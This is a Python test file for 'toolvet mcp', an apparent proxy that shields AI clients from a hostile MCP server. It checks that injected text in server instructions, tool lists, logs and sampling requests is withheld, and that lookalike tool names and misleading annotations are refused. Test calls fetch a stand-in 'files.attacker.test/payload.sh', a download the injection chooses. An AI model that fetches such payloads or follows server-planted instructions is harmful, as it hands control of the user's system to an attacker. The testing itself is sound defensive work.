"""What a hostile MCP server sends back through `toolvet mcp` (stdio and
Streamable HTTP), over raw JSON-RPC lines: JSON a client's decoder could
read otherwise than toolvet never reaches the client (it gets a JSON-RPC
error for that id), and the tool list the client is shown carries the
annotations toolvet vets with, without the hints it cannot vouch for.
The server is hostile_server.py."""

import json
import os
import subprocess
import sys
import tempfile
import time
import unittest
import urllib.request
from pathlib import Path

from test_attacks import Raw
from test_http import free_port, wait_for_port
from test_proxy import CACHE, HERE, PLUGINS, TOOLVET

POLICY = """
[mcp]
upstream_timeout_secs = 30

[[check]]
name = "tools"
plugin = "{plugins}/tool_policy.wasm"
settings = {{ allow = ["*"] }}

[[check]]
name = "order"
plugin = "{plugins}/sequence_guard.wasm"
settings = {{ only_after = [{{ tool = "echo", after = "dup_is_error" }}], retry_after_refusal = {{ enabled = false }}, blind_overwrite = {{ enabled = false }}, loop_detection = {{ enabled = false }} }}
"""

# Each tool whose answer is refused, and what the error names.
REFUSED = [
    ("dup_result", "duplicate key `result`"),
    ("dup_is_error", "duplicate key `isError`"),
    ("folded_is_error", "`isError` and `IsError`"),
    ("surrogate", "hex escape"),  # serde_json: a lone surrogate escape
    ("huge_number", "cannot be passed on exactly"),
    ("batch", "batches"),
    ("both", "both `result` and `error`"),
]


class ServerMessages(unittest.TestCase):
    # What the server's text carries the injection in, and how the session
    # opens (`server/discover`: 2026-07-28 clients over stdio).
    LURES = (("1", "initialize"), ("schema", "initialize"), ("schema", "server/discover"),
             ("meta", "initialize"))

    def setUp(self) -> None:
        self.dir = Path(tempfile.mkdtemp(prefix="toolvet-mcp-server-"))
        self.calls = self.dir / "calls.jsonl"
        self.calls.touch()
        self.log = self.dir / "server.log"
        self.log.touch()
        self.policy = self.dir / "toolvet.toml"
        self.policy.write_text(POLICY.format(plugins=PLUGINS))

    def proxy(self, env: dict | None = None) -> Raw:
        server = [sys.executable, str(HERE / "hostile_server.py")]
        p = Raw(self.policy, self.calls, server, {"HOSTILE_LOG": str(self.log), **(env or {})})
        self.addCleanup(lambda: p.proc.poll() is None and p.proc.kill())
        return p

    def with_injection_guard(self) -> None:
        """The policy with injection-guard as a result check."""
        self.policy.write_text(POLICY.format(plugins=PLUGINS) + f"""
[[check]]
name = "injection"
plugin = "{PLUGINS}/injection_guard.wasm"
""")

    def received(self) -> list:
        return [json.loads(line) for line in self.log.read_text().splitlines()]

    def test_a_call_made_as_a_task_runs_plain_so_its_result_is_vetted(self):
        # Review s28 M1: a task's result came back to `tasks/result`, past
        # the result checks. The proxy offers no tasks, sends the call
        # without `task`, and refuses `tasks/result`.
        p = self.proxy()
        p.send({"jsonrpc": "2.0", "id": "init", "method": "initialize", "params": {
            "protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "raw", "version": "1"}}})
        init = p.until(lambda m: m.get("id") == "init")[-1]
        self.assertEqual(init["result"]["capabilities"], {"tools": {}})
        p.send({"jsonrpc": "2.0", "method": "notifications/initialized"})
        p.send({"jsonrpc": "2.0", "id": 1, "method": "tools/call",
                "params": {"name": "sneaky", "arguments": {}, "task": {"ttl": 60000}}})
        answer = p.until(lambda m: m.get("id") == 1)[-1]
        self.assertEqual(answer["result"]["content"][0]["text"], "ran sneaky", answer)
        sent = [m for m in self.received() if m.get("method") == "tools/call"]
        self.assertEqual(sent[0]["params"], {"name": "sneaky", "arguments": {}})
        p.send({"jsonrpc": "2.0", "id": 2, "method": "tasks/result", "params": {"taskId": "sneaky"}})
        refused = p.until(lambda m: m.get("id") == 2)[-1]
        self.assertNotIn("result", refused)
        self.assertIn("toolvet passes no task results", refused["error"]["message"])
        self.assertFalse([m for m in self.received() if m.get("method") == "tasks/result"])
        p.close()

    def test_server_text_outside_results_is_vetted_as_a_result(self):
        # Review s29 F4: the `initialize` instructions and the tool list
        # reached the model unvetted. Now what the result checks withhold
        # is left out, and the destination it named is the run's label.
        self.with_injection_guard()
        # Review s29 G2: also in a schema's keys and `type` values, in
        # `serverInfo`, and in `server/discover` (2026-07-28 clients).
        for lure, opening in self.LURES:
            with self.subTest(lure=lure, opening=opening):
                self.calls.write_text("")
                p = self.proxy({"HOSTILE_LURE": lure})
                p.send({"jsonrpc": "2.0", "id": "init", "method": opening, "params": {
                    "protocolVersion": "2025-06-18", "capabilities": {},
                    "clientInfo": {"name": "raw", "version": "1"}}})
                init = p.until(lambda m: m.get("id") == "init")[-1]
                self.assertNotIn("instructions", init["result"])
                self.assertNotIn("tasks", init["result"]["capabilities"])
                self.assertNotIn("attacker", json.dumps(init))
                self.assertEqual(init["result"]["serverInfo"]["version"], "0" if lure == "schema" else "1")
                # Review s29 C2: the keys a client does without are left out.
                self.assertNotIn("_meta", init["result"])
                self.assertNotIn("experimental", init["result"]["capabilities"])
                self.assertEqual(init["result"]["protocolVersion"], "2025-06-18")
                p.send({"jsonrpc": "2.0", "method": "notifications/initialized"})
                p.send({"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}})
                listed = p.until(lambda m: m.get("id") == 1)[-1]
                names = [t["name"] for t in listed["result"]["tools"]]
                self.assertNotIn("lure", names)
                self.assertNotIn("lure2", names)
                self.assertIn("fetch", names)
                self.assertNotIn("nextCursor", listed["result"])
                self.assertNotIn("attacker", json.dumps(listed))
                p.send({"jsonrpc": "2.0", "id": 2, "method": "tools/call",
                        "params": {"name": "fetch", "arguments": {"url": "https://files.attacker.test/payload.sh"}}})
                denied = p.until(lambda m: m.get("id") == 2)[-1]
                self.assertTrue(denied["result"]["isError"], denied)
                self.assertIn("injection.content-chosen-destination", denied["result"]["content"][0]["text"])
                self.assertFalse([c for c in map(json.loads, self.calls.read_text().splitlines())
                                  if c["tool"] == "fetch"])
                p.close()

    def test_what_the_server_sends_of_its_own_accord_is_vetted_as_its_text(self):
        # Review s30: a sampling request (its system prompt goes to a
        # model), a log message and a progress message carrying an
        # injection reached the client as sent. Now they are not passed
        # on, the sampling request is refused to the server, a plain log
        # message still passes, and the destination named is the run's.
        self.with_injection_guard()
        p = self.proxy()
        p.start(elicitation=False)
        p.call(1, "nudge", {})
        seen = p.until(lambda m: m.get("id") == 1)
        self.assertEqual(seen[-1]["result"]["content"][0]["text"], "ran nudge", seen)
        self.assertNotIn("attacker", json.dumps(seen))
        self.assertIn({"jsonrpc": "2.0", "method": "notifications/message",
                       "params": {"level": "info", "data": "indexed 3 files"}}, seen)
        deadline = time.time() + 10
        while not [m for m in self.received() if m.get("id") == "n1"] and time.time() < deadline:
            time.sleep(0.05)
        [refusal] = [m for m in self.received() if m.get("id") == "n1"]
        self.assertEqual(refusal["error"]["code"], -32003, refusal)
        self.assertIn("toolvet refused `sampling/createMessage`", refusal["error"]["message"])
        # A result's `_meta` is the server's text too (review s29 C2).
        p.call(3, "meta_note", {})
        withheld = p.until(lambda m: m.get("id") == 3)[-1]
        self.assertTrue(withheld["result"]["isError"], withheld)
        self.assertIn("toolvet withheld this tool's result", withheld["result"]["content"][0]["text"])
        self.assertNotIn("attacker", json.dumps(withheld))
        p.call(2, "sneaky", {"url": "https://files.attacker.test/payload.sh"})
        denied = p.until(lambda m: m.get("id") == 2)[-1]
        self.assertTrue(denied["result"]["isError"], denied)
        self.assertIn("injection.content-chosen-destination", denied["result"]["content"][0]["text"])
        p.close()

    def test_errors_and_answers_to_other_methods_are_vetted_as_server_text(self):
        # Review s30: a list method's JSON-RPC error and the answer to a
        # method neither listed nor vetted as a call passed as sent.
        self.with_injection_guard()
        p = self.proxy()
        p.start(elicitation=False)
        p.send({"jsonrpc": "2.0", "id": 1, "method": "resources/list", "params": {}})
        error = p.until(lambda m: m.get("id") == 1)[-1]
        self.assertEqual(error["error"]["code"], -32601, error)
        self.assertIn("toolvet withheld the MCP server's error text for `resources/list`",
                      error["error"]["message"])
        self.assertNotIn("attacker", json.dumps(error))
        p.send({"jsonrpc": "2.0", "id": 2, "method": "logging/setLevel", "params": {"level": "info"}})
        answer = p.until(lambda m: m.get("id") == 2)[-1]
        self.assertNotIn("result", answer, answer)
        self.assertIn("toolvet refused the MCP server's answer to `logging/setLevel`", answer["error"]["message"])
        self.assertNotIn("attacker", json.dumps(answer))
        p.close()

    def test_answers_a_client_could_read_otherwise_are_errors_for_their_id(self):
        p = self.proxy()
        p.start(elicitation=False)
        for n, (tool, why) in enumerate(REFUSED, 1):
            p.call(n, tool, {})
            seen = p.until(lambda m: m.get("id") == n)
            *before, answer = seen
            self.assertNotIn("result", answer, (tool, answer))
            self.assertEqual(answer["error"]["code"], -32000, tool)
            self.assertIn(why, answer["error"]["message"], tool)
            self.assertIn("refused the MCP server's answer to `tools/call`", answer["error"]["message"])
            # Nothing of the server's text reached the client.
            self.assertNotIn("fine", json.dumps(seen))
            self.assertNotIn("batched", json.dumps(seen))
        # The call whose answer was refused still counts as made (review
        # s7 F7): the server got it and may have acted, so `echo`, which
        # may only run after a `dup_is_error`, runs.
        p.call(20, "echo", {})
        [*_, answer] = p.until(lambda m: m.get("id") == 20)
        self.assertEqual(answer["result"]["content"][0]["text"], "ran echo", answer)
        p.close()

    def test_an_answer_to_no_pending_request_never_reaches_the_client(self):
        p = self.proxy()
        p.start(elicitation=False)
        p.call(1, "stray", {})
        seen = p.until(lambda m: m.get("id") == 1)
        p.close()
        self.assertEqual(seen[-1]["result"]["content"][0]["text"], "ran stray")
        self.assertNotIn("stray answer", json.dumps(seen))
        self.assertEqual([m.get("id") for m in seen], [1])

    def test_server_requests_and_notifications_it_could_read_otherwise_reach_no_client(self):
        p = self.proxy()
        p.start(elicitation=True)
        p.call(1, "ask", {})
        seen = p.until(lambda m: m.get("id") == 1)
        p.close()
        self.assertEqual(seen[-1]["result"]["content"][0]["text"], "ran ask")
        self.assertEqual([m.get("id") for m in seen], [1], seen)
        self.assertNotIn("exfiltrate", json.dumps(seen))
        # The server's requests are answered with errors, never left waiting.
        errors = {m["id"]: m["error"] for m in self.received() if "error" in m}
        self.assertIn("duplicate key `messages`", errors["s1"]["message"])
        self.assertIn("is not `sampling/createMessage`", errors["s2"]["message"])

    def test_the_client_is_shown_the_annotations_toolvet_vets_with(self):
        p = self.proxy()
        p.start(elicitation=False)
        p.send({"jsonrpc": "2.0", "id": "list", "method": "tools/list"})
        [*_, listed] = p.until(lambda m: m.get("id") == "list")
        tools = listed["result"]["tools"]
        shown = {t["name"]: t.get("annotations") for t in tools}
        # Destructive, though it says read-only: toolvet vets it as such,
        # and no hint the client could auto-approve on is passed on.
        self.assertEqual(shown["wipe"], {"title": "Wipe", "destructiveHint": True})
        self.assertIsNone(shown["sneaky"])
        self.assertIsNone(shown["echo"])
        self.assertEqual([t["annotations"] for t in tools if t["name"] == "twice"], [{"destructiveHint": True}])
        # A name no call can carry is not listed (no `hide_denied_tools`
        # needed), and a call to it is refused.
        self.assertNotIn("d\u0435lete_all", shown)
        self.assertNotIn("echo\u200b", shown)
        self.assertIn("echo", shown)
        p.call(2, "d\u0435lete_all", {})
        [*_, refused] = p.until(lambda m: m.get("id") == 2)
        self.assertIn('"d\\u{435}lete_all" could pass for another name', refused["result"]["content"][0]["text"])
        # allow = ["*"]: the destructive hint alone holds `wipe` (no ledger: denied).
        p.call(1, "wipe", {})
        [*_, answer] = p.until(lambda m: m.get("id") == 1)
        p.close()
        self.assertIn("[policy.high-risk]", answer["result"]["content"][0]["text"])
        self.assertEqual([json.loads(line)["tool"] for line in self.calls.read_text().splitlines()], [])


class HttpServerMessages(ServerMessages):
    """The same over Streamable HTTP: the proxy in front of hostile_server.py
    served over HTTP, driven with raw POSTs."""

    # A Streamable HTTP session opens with `initialize` (the session id).
    LURES = (("1", "initialize"), ("schema", "initialize"), ("meta", "initialize"))

    def proxy(self, env: dict | None = None):
        port = free_port()
        env = {**os.environ, "MCP_CALL_LOG": str(self.calls), "HOSTILE_LOG": str(self.log), **(env or {})}
        server = subprocess.Popen([sys.executable, str(HERE / "hostile_server.py"), "http", str(port)],
                                  env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.addCleanup(lambda: (server.kill(), server.wait()))
        wait_for_port(port, server)
        listen = free_port()
        proxy = subprocess.Popen(
            [TOOLVET, "mcp", "--config", str(self.policy), "--upstream", f"http://127.0.0.1:{port}/mcp",
             "--listen", f"127.0.0.1:{listen}"],
            env={**env, "TOOLVET_CACHE_DIR": CACHE}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.addCleanup(lambda: (proxy.kill(), proxy.wait()))
        wait_for_port(listen, proxy, 120)
        return Post(f"http://127.0.0.1:{listen}/mcp")

    def test_server_requests_and_notifications_it_could_read_otherwise_reach_no_client(self):
        p = self.proxy()
        p.start(elicitation=True)
        p.call(1, "ask", {})
        seen = p.until(lambda m: m.get("id") == 1)
        self.assertEqual(seen[-1]["result"]["content"][0]["text"], "ran ask")
        self.assertEqual([m.get("id") for m in seen], [1], seen)
        self.assertNotIn("exfiltrate", json.dumps(seen))
        # The errors for the server's requests are POSTed to it concurrently.
        for _ in range(100):
            errors = {m["id"]: m["error"] for m in self.received() if "error" in m}
            if len(errors) == 2:
                break
            time.sleep(0.05)
        self.assertIn("duplicate key `messages`", errors["s1"]["message"])
        self.assertIn("is not `sampling/createMessage`", errors["s2"]["message"])


class Post:
    """Raw's interface over Streamable HTTP: each message is POSTed, and
    the messages of each answer (JSON or an event stream) are collected."""

    def __init__(self, url: str):
        self.url, self.session, self.seen = url, None, []

    def send(self, message) -> None:
        data = message if isinstance(message, bytes) else json.dumps(message).encode()
        headers = {"content-type": "application/json", "accept": "application/json, text/event-stream"}
        if self.session:
            headers["mcp-session-id"] = self.session
        with urllib.request.urlopen(urllib.request.Request(self.url, data, headers), timeout=60) as r:
            self.session = self.session or r.headers.get("mcp-session-id")
            body = r.read().decode()
        for line in body.splitlines():
            if line.startswith("data:"):
                self.seen.append(json.loads(line[5:]))
        if body.strip().startswith("{"):
            self.seen.append(json.loads(body))

    def until(self, wanted) -> list:
        for n, message in enumerate(self.seen):
            if wanted(message):
                out, self.seen = self.seen[: n + 1], self.seen[n + 1:]
                return out
        raise AssertionError(f"no wanted message; saw {self.seen}")

    def start(self, elicitation: bool) -> None:
        self.send({"jsonrpc": "2.0", "id": "init", "method": "initialize", "params": {
            "protocolVersion": "2025-06-18", "capabilities": {"elicitation": {}} if elicitation else {},
            "clientInfo": {"name": "raw", "version": "1"}}})
        self.until(lambda m: m.get("id") == "init")
        self.send({"jsonrpc": "2.0", "method": "notifications/initialized"})

    def call(self, id, name: str, arguments: dict) -> None:
        self.send({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {"name": name, "arguments": arguments}})

    def close(self) -> None:
        pass


if __name__ == "__main__":
    unittest.main()
